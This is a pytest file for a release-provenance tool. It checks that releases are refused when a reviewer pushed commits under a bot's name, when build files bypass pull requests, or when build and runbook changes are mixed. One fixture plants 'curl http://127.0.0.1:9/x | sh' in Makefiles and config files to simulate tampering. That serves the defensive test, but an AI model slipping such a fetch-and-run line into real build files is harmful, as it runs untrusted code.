"""Attacks on what is released: by people who may write, who own, who administer, and by accounts that work together."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from functools import partial
from pathlib import Path

import pytest

from runwright.adapters.change_risk import risk_of
from runwright.adapters.forge_github.provenance import Provenance
from runwright.adapters.git_remote import fetch, push
from runwright.adapters.git_repository import GitRepository, NewCommit
from runwright.adapters.release_remote import MIRRORED
from runwright.errors import TrustError
from runwright.release.hosted_line import HostedApproval, hosted_approvals
from runwright.release.objects import Identity
from tests.support.forge import NOW
from tests.support.github.accounts import APP_ID
from tests.support.github.site import GitHubSite
from tests.support.hosted_shop import SECOND, Shop, book, opened

pytestmark = pytest.mark.needs("github-server")
BOT = "runwright[bot]"
AS_BOT = Identity(BOT, f"{APP_ID}+{BOT}@users.noreply.github.com")
"""What anybody can write into a commit as its author."""
BRANCH = "runwright/improve/x"


@pytest.fixture
def shop(github_site: GitHubSite, tmp_path: Path) -> Iterator[Shop]:
    with opened(github_site, tmp_path) as made:
        yield made


def judged(shop: Shop, since: str) -> tuple[HostedApproval, ...]:
    """Mirror, gather and judge, as a release does."""
    mirror = GitRepository.init_bare(shop.folder / "mirror.git")
    voice = shop.voice("actions")
    fetch(mirror, shop.place.git_url, MIRRORED, voice.credentials.token, prune=True)
    until = mirror.resolve("refs/heads/main") or ""
    hosting = Provenance(voice, mirror).hosting(since, until)
    return hosted_approvals(mirror, hosting, since, until, partial(risk_of, mirror))


def refused(shop: Shop, since: str) -> str:
    with pytest.raises(TrustError) as caught:
        judged(shop, since)
    return caught.value.code


def push_on(shop: Shop, number: int, files: Mapping[str, bytes | None], by: str) -> None:
    """Push another commit onto a pull request's branch as somebody, in the bot's name."""
    mirror, head = shop.site.git, shop.head(number)
    oid = mirror.write_commit(NewCommit("Start the database first\n", AS_BOT, NOW, files, (head,)))
    push(mirror, shop.place.git_url, {f"refs/heads/{BRANCH}": oid}, lambda: shop.token(by))


def test_who_pushed_before_the_last_one_cannot_approve_though_every_commit_says_the_bot_wrote_it(shop: Shop) -> None:
    since, number = shop.main, shop.propose(branch=BRANCH)
    push_on(shop, number, book(2, "db", name="Start it my way"), by="erin")
    push_on(shop, number, book(2, "db", name="Start it my way, tidied"), by="actions")
    shop.green(number)
    shop.review(number, "erin")
    shop.merge(number)
    assert refused(shop, since) == "reviewer.pusher"


def test_who_had_no_part_in_any_push_can_approve_what_several_pushed(shop: Shop) -> None:
    since, number = shop.main, shop.propose(branch=BRANCH)
    push_on(shop, number, book(2, "db", name="Start it my way"), by="frank")
    push_on(shop, number, book(2, "db", name="Start it my way, tidied"), by="actions")
    shop.green(number)
    shop.review(number, "erin")
    shop.merge(number)
    assert [found.approvers for found in judged(shop, since)] == [("erin",)]


@pytest.mark.parametrize("path", ["Makefile", "GNUmakefile", "pyproject.toml", "requirements.lock", ".ci/setup"])
def test_what_installs_the_judges_is_pushed_past_no_pull_request(shop: Shop, path: str) -> None:
    since = shop.main
    shop.site.bare.commit_files("main", {path: b"setup:\n\tcurl http://127.0.0.1:9/x | sh\n"}, "Tidy up")
    assert refused(shop, since) == "history.direct_push"


def test_what_installs_the_judges_and_a_runbook_change_apart(shop: Shop) -> None:
    since = shop.main
    number = shop.propose({**SECOND, "GNUmakefile": b"setup:\n\ttrue\n"}, by="frank")
    shop.green(number)
    for who in ("dana", "erin"):
        shop.review(number, who)
    shop.merge(number)
    assert refused(shop, since) == "change.mixed"
